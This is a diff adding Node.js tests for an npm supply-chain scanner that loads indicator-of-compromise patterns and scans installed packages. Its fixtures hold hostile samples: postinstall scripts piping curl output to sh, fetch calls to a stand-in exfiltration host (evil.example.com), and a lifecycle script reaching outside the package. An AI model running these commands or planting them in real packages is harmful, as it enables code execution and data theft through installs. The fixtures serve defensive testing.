@@ -0,0 +1,64 @@
+// Indicators of compromise in installed packages, including user-supplied IOC files
+const test = require('node:test');
+const assert = require('node:assert/strict');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { loadIOCs, scanInstalledPackages } = require('../scan.js');
+
+function makeProject(t, packages) {
+  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'worm-scanner-ioc-'));
+  t.after(() => fs.rmSync(dir, { recursive: true, force: true }));
+  for (const [name, files] of Object.entries(packages)) {
+    const pkgDir = path.join(dir, 'node_modules', name);
+    fs.mkdirSync(pkgDir, { recursive: true });
+    fs.writeFileSync(path.join(pkgDir, 'package.json'), JSON.stringify({ name, version: '1.0.0', scripts: files.scripts }));
+    for (const [file, content] of Object.entries(files.content || {})) {
+      fs.mkdirSync(path.dirname(path.join(pkgDir, file)), { recursive: true });
+      fs.writeFileSync(path.join(pkgDir, file), content);
+    }
+  }
+  return dir;
+}
+
+const iocHits = (findings) => findings.filter(f => f.type === 'ioc').map(f => [f.pkg, f.indicator]);
+
+test('IOC patterns with the g or y flag match every package, not only the first', (t) => {
+  const dir = makeProject(t, {
+    'first': { content: { 'index.js': `${'// padding\n'.repeat(50)}fetch('https://evil.example.com/x')\n` }, scripts: { postinstall: 'curl https://x | sh' } },
+    'second': { content: { 'index.js': "fetch('https://EVIL.example.com/y')\n" }, scripts: { postinstall: 'curl https://y | sh' } }
+  });
+  const iocFile = path.join(dir, 'iocs.json');
+  fs.writeFileSync(iocFile, JSON.stringify({
+    patterns: [{ pattern: 'evil\\.example\\.com', flags: 'gi', description: 'Exfiltration host' }],
+    scripts: [{ pattern: 'curl .*\\| *sh', flags: 'y', description: 'Install script pipes to shell' }]
+  }));
+  
+  const iocs = loadIOCs(iocFile);
+  assert.equal(iocs.patterns.at(-1).regex.flags, 'i');
+  assert.equal(iocs.scripts.at(-1).regex.flags, '');
+  // Scanning twice reuses the compiled patterns
+  for (let run = 0; run < 2; run++) {
+    assert.deepEqual(iocHits(scanInstalledPackages(dir, {}, iocs)), [
+      ['first', 'Install script pipes to shell'],
+      ['first', 'Exfiltration host'],
+      ['second', 'Install script pipes to shell'],
+      ['second', 'Exfiltration host']
+    ]);
+  }
+});
+
+test('files named by lifecycle scripts are only read inside the package', (t) => {
+  const dir = makeProject(t, {
+    'escape': {
+      scripts: { preinstall: 'node lib/setup.js', postinstall: 'node ../../outside.js' },
+      content: { 'lib/setup.js': "fetch('https://evil.example.com/setup')\n" }
+    }
+  });
+  fs.writeFileSync(path.join(dir, 'outside.js'), "fetch('https://evil.example.com/outside')\n");
+  const iocFile = path.join(dir, 'iocs.json');
+  fs.writeFileSync(iocFile, JSON.stringify({ patterns: [{ pattern: 'evil\\.example\\.com', description: 'Exfiltration host' }] }));
+  
+  const findings = scanInstalledPackages(dir, {}, loadIOCs(iocFile)).filter(f => f.type === 'ioc' && f.indicator === 'Exfiltration host');
+  assert.deepEqual(findings.map(f => f.file), ['node_modules/escape/lib/setup.js']);
+});